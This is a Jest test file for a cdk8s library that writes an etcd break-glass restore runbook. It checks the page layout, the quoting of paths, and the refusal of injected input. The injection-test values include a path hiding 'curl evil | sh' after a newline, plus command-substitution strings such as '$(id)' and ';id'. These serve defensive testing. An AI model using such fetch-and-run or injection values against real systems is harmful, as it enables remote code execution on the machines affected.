import { execFileSync } from 'child_process';
import { Chart, Size, Testing } from 'cdk8s';
import * as kplus from 'cdk8s-plus-28';
import { EtcdSnapshotJob } from '../../src/backup/etcd-snapshot-job';
import { SnapshotNodes } from '../../src/backup/snapshot-nodes';
import { BackupsByHand, runbook } from '../../src/break-glass/runbook';
import { EtcdCluster } from '../../src/cluster/etcd-cluster';
import { EtcdVersion } from '../../src/cluster/etcd-version';
import { KubernetesVersion } from '../../src/cluster/kubernetes-version';
import { BackupVolume } from '../../src/storage/backup-volume';

const FOLDER = { folder: '/mnt/backup' };

function stacked(...controlPlanes: string[]): EtcdCluster {
  return EtcdCluster.kubeadm({ name: 'prod', kubernetesVersion: KubernetesVersion.of('1.34.4'), controlPlanes });
}

const three = stacked('cp1', 'cp2', 'cp3');
const outside = EtcdCluster.external({
  name: 'billing', endpoints: ['http://10.0.0.1:2379', 'http://10.0.0.2:2379', 'http://10.0.0.3:2379'], etcdVersion: EtcdVersion.of('3.5.21'),
});

/** What a person types: the indented lines, without the remark behind them. */
function commands(page: string): string[] {
  return page.split('\n## What is where')[0].split('\n').filter((line) => line.startsWith('    ')).map((line) => line.trim().replace(/\s+# .*/, ''));
}

describe.each<[string, EtcdCluster, BackupsByHand]>([
  ['one control plane', stacked('cp1'), { ...FOLDER, machines: ['cp1'] }],
  ['three control planes, backups on one', three, { ...FOLDER, machines: ['cp2'] }],
  ['three control planes, backups on each', three, { ...FOLDER, machines: ['cp1', 'cp2', 'cp3'] }],
  ['three control planes, backups elsewhere', three, { ...FOLDER, mount: 'mount -t nfs nas:/export /mnt/backup', machines: [] }],
  ['an external etcd', outside, { ...FOLDER, machines: ['worker-1'] }],
])('%s', (_, cluster, backups) => {
  const page = runbook(cluster, backups);

  test('the page is the one that was reviewed', () => {
    expect(page).toMatchSnapshot();
  });

  test('what to type comes on the first screen, from a list of the backups to the restore', () => {
    const screen = commands(page.split('\n').slice(0, 24).join('\n'));
    expect(screen).toContainEqual(`cd ${backups.folder}/${cluster.name}/break-glass`);
    const [list, rehearsal] = ['--list', '--dry-run'].map((option) => screen.findIndex((line) => line.endsWith(option)));
    expect(list).toBeGreaterThan(-1);
    expect(rehearsal).toBeGreaterThan(list);
    expect(screen[rehearsal + 1]).toMatch(/^sh restore\.sh (--latest|--file \S+ --with "API-SERVERS")$/);
  });

  test('it fits on a page, and what is to be read on a console', () => {
    const lines = page.split('\n');
    expect(lines.filter((line) => line.length > 105 && !line.startsWith('    sh '))).toEqual([]);
    expect(lines.length).toBeLessThan(80);
  });

  test('it names every machine and where backups and data are', () => {
    const named = cluster.isExternal ? ['10.0.0.1', '10.0.0.2', '10.0.0.3'] : cluster.controlPlanes;
    for (const word of [...named, ...backups.machines, `${backups.folder}/${cluster.name}`, cluster.dataFolder]) expect(page).toContain(word);
  });

  test('nothing in it is left over of a template', () => {
    expect(page).not.toMatch(/undefined|null|NaN|\$\{|\{\{|true|false|\n\n\n| \n|^\s*$/);
    expect(page.endsWith('\n')).toBe(true);
  });
});

test('a volume of pods that are not root\'s: root runs a copy of the kit, and says that it trusts the backups', () => {
  const stackedPage = commands(runbook(three, { ...FOLDER, mount: 'mount /dev/DEVICE /mnt/backup', machines: [], ofPods: true }));
  expect(stackedPage.slice(0, 5)).toEqual([
    'mount /dev/DEVICE /mnt/backup', `cp -rL ${FOLDER.folder}/prod/break-glass /root/`, `cd /root/break-glass && export BACKUP_ROOT=${FOLDER.folder}`, 'sh restore.sh --list',
    'sh restore.sh --latest --trust-backups --dry-run',
  ]);
  expect(stackedPage.find((line) => line.includes('--quiesced'))).toMatch(/^sh restore\.sh --latest --trust-backups --id ID --without-quorum /);
  // With an etcd outside, root copies the backup to the holder, so the copy belongs to root.
  const external = commands(runbook(outside, { ...FOLDER, mount: 'mount /dev/DEVICE /mnt/backup', machines: [], ofPods: true })).join('\n');
  expect(external).toContain(`cp -rL ${FOLDER.folder}/`);
  expect(external).not.toContain('--trust-backups');
});

describe('machines without the volume', () => {
  test('get the kit from the one that has it, at their addresses', () => {
    const cluster = EtcdCluster.kubeadm({
      name: 'prod', kubernetesVersion: KubernetesVersion.of('1.34.4'), controlPlanes: ['cp1', 'cp2', 'cp3'], addresses: { cp1: '10.0.0.11', cp3: 'fd00::13' },
    });
    const page = commands(runbook(cluster, { folder: '/srv/etcd backups', machines: ['cp2'] }));
    expect(page).toContain('cd \'/srv/etcd backups/prod/break-glass\'');
    expect(page).toContain('scp -rp \'/srv/etcd backups/prod/break-glass\' root@10.0.0.11:/root/');
    expect(page).toContain('scp -rp \'/srv/etcd backups/prod/break-glass\' \'root@[fd00::13]:/root/\'');
    expect(page).toContain('sh restore.sh --holder cp2 --id ID');
  });

  test('need no copy where every machine has one', () => {
    expect(runbook(three, { ...FOLDER, machines: ['cp1', 'cp2', 'cp3'] })).not.toContain('scp');
  });
});

/** The words of each line of a page that a person types, as a shell reads them: nothing else may run. */
function wordsTyped(page: string): string[][] {
  const lines = page.split('\n').filter((line) => /^ {4}(mount|cd|scp) /.test(line));
  const script = `mount() { printf '%s\\0' mount "$@" END; }; cd() { printf '%s\\0' cd "$@" END; }; scp() { printf '%s\\0' scp "$@" END; }\n${lines.join('\n')}\n`;
  const said = execFileSync('sh', ['-c', script], { encoding: 'utf8', env: {} }).split('\0END\0').filter((command) => command !== '');
  return said.map((command) => command.split('\0'));
}

describe('what is typed as root has each path, server and option as one word', () => {
  const pageOf = (server: string, path: string, mountOptions?: string[]) => {
    const volume = BackupVolume.fromNfs(new Chart(Testing.app(), 'platform'), 'nfs', { server, path, mountOptions });
    return runbook(three, { ...volume._byHand(), machines: [] });
  };

  test('nfs with blank', () => {
    expect(wordsTyped(pageOf('nas', '/volume1/etcd backups', ['nfsvers=4.1']))[0]).toEqual(
      ['mount', '-t', 'nfs', '-o', 'nfsvers=4.1', 'nas:/volume1/etcd backups', '/mnt/backup']);
  });

  test('a server by IPv6, which mount wants in brackets and Kubernetes without', () => {
    for (const server of ['fd00::5', '[fd00::5]']) expect(wordsTyped(pageOf(server, '/export'))[0]).toContain('[fd00::5]:/export');
  });

  test.each(['/e$(id)', '/e`id`', '/it\'s', '/a;id', '/a&b', '/a*', '/a\\b', '/a"b', '/~', '/a#b', '/ä ö', '/!x', '/-rf'])('the path %s', (path) => {
    expect(wordsTyped(pageOf('nas', path, ['hard', 'sec=sys;id']))[0]).toEqual(['mount', '-t', 'nfs', '-o', 'hard,sec=sys;id', `nas:${path}`, '/mnt/backup']);
    const folder = `/mnt${path}`;
    for (const [cluster, machines] of [[three, ['cp2']], [outside, ['worker-1']]] as const) {
      const typed = wordsTyped(runbook(cluster, { folder, machines: [...machines] }));
      expect(typed[0]).toEqual(['cd', `${folder}/${cluster.name}/break-glass`]);
      expect(typed[1].slice(0, 3)).toEqual(['scp', '-rp', `${folder}/${cluster.name}/break-glass`]);
    }
  });
});

test('machines whose names look like numbers are named as they are', () => {
  expect(runbook(stacked('node.1', 'node.02', 'cp.0x3'), { ...FOLDER, machines: ['node.1'] })).toContain('root@node.02:/root/');
});

test.each<[string, (scope: Chart) => unknown, string]>([
  ['server with ;', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas;id>&2;:', path: '/e' }), 'server must be the name or address of an NFS server, got "nas;id>&2;:"'],
  ['server on a link', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'fe80::1%eth0', path: '/e' }), 'server must be the name or address of an NFS server'],
  ['newline in the server', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas\n', path: '/e' }), 'server must be the name or address of an NFS server, got "nas\\n"'],
  ['newline in path', (scope) => BackupVolume.fromHostPath(scope, 'v', { path: '/mnt/x\n    curl evil | sh' }),
    'path must be one line without control characters, got "/mnt/x\\n    curl evil | sh": leave them out'],
  ['newline in the path of NFS', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas', path: '/e\rid' }), 'path must be one line'],
  ['an escape sequence in a path', (scope) => BackupVolume.fromHostPath(scope, 'v', { path: '/mnt/\u001b[2Jx' }), 'path must be one line'],
  ['a line separator of Unicode in a path', (scope) => BackupVolume.fromHostPath(scope, 'v', { path: '/mnt/\u2028x' }), 'path must be one line'],
  ['newline in an option', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas', path: '/e', mountOptions: ['hard\nid'] }), 'mountOptions must be one line'],
  ['options as one text', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas', path: '/e', mountOptions: 'hard' as any }), 'mountOptions must be a list, got "hard"'],
  ['newline in the name of a claim', (scope) => BackupVolume.fromPersistentVolumeClaim(scope, 'v', kplus.PersistentVolumeClaim.fromClaimName(scope, 'c', 'x\n    id')),
    'claim must be a DNS subdomain'],
  ['newline in the name of the node that keeps the backups of an external etcd', (scope) => new EtcdSnapshotJob(scope, 's', {
    cluster: outside, volume: BackupVolume.fromHostPath(scope, 'v'), nodes: SnapshotNodes.named('worker-1\n    id'),
  }), 'node must be a DNS subdomain'],
])('what would add a line to the page is refused: %s', (_, build, message) => {
  expect(() => build(new Chart(Testing.app(), 'platform'))).toThrow(message);
});

test.each<[string, (scope: Chart) => BackupVolume, string]>([
  ['NFS', (scope) => BackupVolume.fromNfs(scope, 'nfs', { server: 'nas', path: '/export', mountOptions: ['nfsvers=4.1', 'hard'] }),
    'mount -t nfs -o nfsvers=4.1,hard nas:/export /mnt/backup'],
  ['an EBS volume', (scope) => BackupVolume.fromEbsVolume(scope, 'ebs', { volumeId: 'vol-01234567', zone: 'eu-central-1a', size: Size.gibibytes(20) }),
    'mount /dev/DEVICE /mnt/backup   # the EBS volume vol-01234567, attached to this machine'],
  ['a claim', (scope) => BackupVolume.fromPersistentVolumeClaim(scope, 'claim', kplus.PersistentVolumeClaim.fromClaimName(scope, 'c', 'etcd-backups')),
    'mount DEVICE /mnt/backup   # the volume of the claim etcd-backups, attached to this machine'],
])('a volume that is no folder of the machine has to be mounted first: %s', (_, volume, mount) => {
  expect(volume(new Chart(Testing.app(), 'platform'))._byHand()).toEqual({ folder: '/mnt/backup', mount });
});
